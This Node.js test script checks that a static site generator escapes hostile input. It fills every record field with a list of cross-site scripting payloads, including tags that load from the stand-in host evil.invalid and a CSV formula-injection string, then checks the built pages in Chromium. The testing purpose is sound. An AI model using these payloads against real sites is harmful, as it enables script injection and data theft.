// Builds a site whose every text tries to run a script, and looks in Chromium whether one of them
// does: node tests/browser/hostile.mjs target/release/wellspring
//
// Every payload stands in every text of every kind of record. Pages are opened from disk, where no
// policy of a host helps them.

import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { inParallel, launch } from './lib/browser.mjs';

/** What every payload calls; the probe of a page reports it. */
const CALL = 'window.__pwned=1';

const PAYLOADS = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<script src="http://evil.invalid/pwned.js"></script>`,
  `<svg onload="${CALL}">`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName="x"></svg>`,
  `<math><mtext><mglyph><style></math><svg onload="${CALL}">`,
  `<img onerror="${CALL}">`,
  `"><img alt="a" onerror="${CALL}">`,
  `" onmouseover="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `<details open ontoggle="${CALL}">a</details>`,
  `<body onload="${CALL}">`,
  `<input autofocus onfocus="${CALL}">`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src="http://evil.invalid/pwned" onerror="${CALL}"></audio>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="http://evil.invalid/pwned"></iframe>`,
  `<object data="http://evil.invalid/pwned"></object>`,
  `<embed src="http://evil.invalid/pwned">`,
  `<form action="http://evil.invalid/pwned"><button autofocus>a</button></form>`,
  `<base href="http://evil.invalid/">`,
  `<link rel="stylesheet" href="http://evil.invalid/pwned.css">`,
  `<style>@import "http://evil.invalid/pwned.css";</style>`,
  `<div style="background:url(http://evil.invalid/pwned)">a</div>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.invalid/pwned">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img onerror='${CALL}'>"></noscript>`,
  `<a id="search-strings" name="documentElement">a</a>`,
  `</main></body></html><script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\\"-(${CALL})-\\"`,
  `{% raw %}<script>${CALL}</script>{% endraw %}`,
  `=cmd|' /C calc'!A0`,
];

const yaml = (value) => JSON.stringify(value);

/** A record of each kind for one payload, every text of it the payload. */
const RECORDS = {
  sources: (n, p) => `- id: s${n}\n  title: ${p}\n  publisher: ${p}\n  published: 2030-01-01\n  url: https://example.org/${n}\n  summary: ${p}\n  note: ${p}\n`,
  regions: (n, p) => `- id: r${n}\n  name: ${p}\n  summary: ${p}\n  note: ${p}\n`,
  parks: (n, p) => `- id: k${n}\n  name: ${p}\n  aliases: [${p}]\n  region: r${n}\n  summary: ${p}\n  facts: [{ label: ${p}, text: ${p} }]\n`,
  industries: (n, p) => `- id: i${n}\n  name: ${p}\n  aliases: [${p}]\n  chain: [${p}]\n  summary: ${p}\n`,
  organizations: (n, p) => `- id: o${n}\n  name: ${p}\n  aliases: [${p}]\n  summary: ${p}\n`,
  projects: (n, p) =>
    `- id: p${n}\n  name: ${p}\n  aliases: [${p}]\n  park: k${n}\n  region: r${n}\n  industries: [i${n}]\n  investors: [o${n}, ${p}]\n  investment: CNY ${n + 1} million\n` +
    `  summary: ${p}\n  note: ${p}\n  milestones: [{ stage: signed, date: 2030-01-01, source: s${n}, text: ${p} }]\n`,
  indicators: (n, p) => `- id: n${n}\n  name: ${p}\n  unit: CNY\n  definition: ${p}\n  method: ${p}\n`,
  targets: (n, p) => `- { indicator: n${n}, period: 2030, at_least: CNY 100 million, source: s${n}, note: ${p} }\n`,
  observations: (n, p) => `- { indicator: n${n}, period: 2030-Q1, value: CNY ${n + 1} million, source: s${n}, note: ${p} }\n`,
  events: (n, p) => `- id: e${n}\n  title: ${p}\n  date: 2030-02-01\n  place: ${p}\n  summary: ${p}\n  source: s${n}\n`,
  documents: (n, p) => `- id: d${n}\n  title: ${p}\n  date: 2030-02-01\n  issuer: ${p}\n  status: ${p}\n  summary: ${p}\n  source: s${n}\n`,
  terms: (n, p) => `- id: t${n}\n  name: ${p}\n  definition: ${p}\n`,
};

const scratch = mkdtempSync(join(tmpdir(), 'hostile-'));
try {
  process.exitCode = (await run(resolve(process.argv[2] ?? 'target/release/wellspring'))) ? 1 : 0;
} finally {
  rmSync(scratch, { recursive: true, force: true });
}

async function run(program) {
  writeSite();
  const built = spawnSync(program, ['build', '-C', scratch, '--format', 'short'], { encoding: 'utf8' });
  if (built.status !== 0 || built.stderr.includes('panicked')) {
    console.log(built.stderr.split('\n').filter((line) => !line.includes('warning[')).slice(0, 40).join('\n'));
    return 1;
  }
  const output = join(scratch, 'output');
  const files = readdirSync(output, { recursive: true }).map(String).sort();
  const faults = [...textFaults(output, files)];
  const pages = files.filter((file) => file.endsWith('.html'));
  await openAll(output, pages, faults);
  faults.slice(0, 40).forEach((fault) => console.log(fault));
  console.log(`${pages.length} pages with ${PAYLOADS.length} payloads, ${faults.length} failed`);
  return faults.length;
}

function put(path, text) {
  mkdirSync(dirname(join(scratch, path)), { recursive: true });
  writeFileSync(join(scratch, path), text);
}

function writeSite() {
  const title = yaml(PAYLOADS[0]);
  put(
    'content/site.yaml',
    `title: ${title}\nshort_title: ${title}\ndescription: ${title}\npublisher: ${title}\ncontact: ${title}\nnotice: ${title}\n` +
      `as_of: 2030-06-30\ncurrency: CNY\nbase_url: https://example.org/\nlanguages: { en: { tag: en, name: ${title} } }\n` +
      `footer: [{ label: ${title}, value: ${title}, href: "https://example.org/\\"onclick=\\"${CALL}" }]\n` +
      `categories: [{ id: c, name: ${title}, definition: ${title} }]\n`,
  );
  for (const [kind, record] of Object.entries(RECORDS)) {
    put(`content/data/${kind}.yaml`, PAYLOADS.map((payload, n) => record(n, yaml(payload))).join(''));
  }
  PAYLOADS.forEach((payload, n) => {
    const text = `---\ntitle: ${yaml(payload)}\ndescription: ${yaml(payload)}\n---\n\n`;
    const forms = [payload, `a ${payload} b`, `# ${payload}`, `- ${payload}`, `| ${payload.replaceAll('|', '\\|')} |\n|---|\n| ${payload.replaceAll('|', '\\|')} |`, `\`${payload}\``];
    put(`content/pages/p${n}.md`, text + forms.join('\n\n') + `\n\n[a](https://example.org/ "${payload.replaceAll('"', '\\"')}")\n`);
  });
}

/** What stands in files that no browser shows as pages. */
function* textFaults(output, files) {
  for (const file of files) {
    const path = join(output, file);
    if (/\.(xml|ics|csv|svg)$/.test(file)) {
      const text = readFileSync(path, 'utf8');
      if (/\.(xml|svg)$/.test(file) && /<script|<[^>]*\son\w+=/i.test(text)) yield `${file}: markup of a text is not escaped`;
      if (file.endsWith('.csv') && /(^|,)"?[=@]/m.test(text)) yield `${file}: a cell is a formula`;
    }
    if (file.endsWith('.json')) JSON.parse(readFileSync(path, 'utf8'));
  }
}

async function openAll(output, files, faults) {
  const browser = await launch();
  try {
    const seats = await Promise.all(Array.from({ length: 4 }, () => newSeat(browser, faults)));
    await inParallel(seats, files, async (seat, file) => {
      seat.file = file;
      await seat.page.goto(pathToFileURL(join(output, file)).href, { waitUntil: 'load' });
      const found = await seat.page.evaluate(inspect);
      found.forEach((fault) => faults.push(`${file}: ${fault}`));
    });
  } finally {
    await browser.close();
  }
}

async function newSeat(browser, faults) {
  const page = await browser.newPage();
  const seat = { page, file: '' };
  const report = (fault) => faults.push(`${seat.file}: ${fault}`);
  page.on('dialog', (dialog) => dialog.dismiss().then(() => report('a dialog opened')));
  page.on('pageerror', (error) => report(`an error of a script: ${error.message}`));
  page.on('request', (request) => {
    if (!request.url().startsWith('file:')) report(`a request to ${request.url()}`);
  });
  return seat;
}

/** Runs in the page: has a payload run, and is there anything that could. */
function inspect() {
  const faults = [];
  if (window.__pwned !== undefined) faults.push('a script of a text ran');
  const inTemplates = [...document.querySelectorAll('template')].flatMap((one) => [...one.content.querySelectorAll('*')]);
  for (const element of [...document.querySelectorAll('*'), ...inTemplates]) {
    const name = element.localName;
    const own = name === 'script' && element.getAttribute('src')?.includes('assets/') && element.textContent === '';
    if (name === 'script' && !own && element.type !== 'application/ld+json') faults.push('a script element');
    if (['iframe', 'object', 'embed', 'base', 'style', 'noscript', 'marquee'].includes(name)) faults.push(`an element ${name}`);
    if (name === 'template' && element.id !== 'search-strings') faults.push('an element template');
    // The search of the site is the only form, and leads to its own page.
    const action = name === 'form' && element.getAttribute('action');
    if (action && !/^(?:https:\/\/example\.org)?\/?(?:[\w.-]+\/)*search\/index\.html$/.test(action)) faults.push('a form that leads elsewhere');
    if (name === 'meta' && element.httpEquiv === 'refresh' && /evil/.test(element.content)) faults.push('a refresh');
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on')) faults.push(`the attribute ${attribute}`);
      if (attribute === 'style') faults.push('the attribute style');
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(attribute) && /^[\s\u0000-\u0020]*(javascript|data|vbscript):/i.test(value)) faults.push(`${attribute}=${value}`);
    }
  }
  const own = [...document.querySelectorAll('[id="search-strings"]')];
  if (own.some((element) => element.localName === 'a')) faults.push('an id of the theme is taken');
  return faults;
}
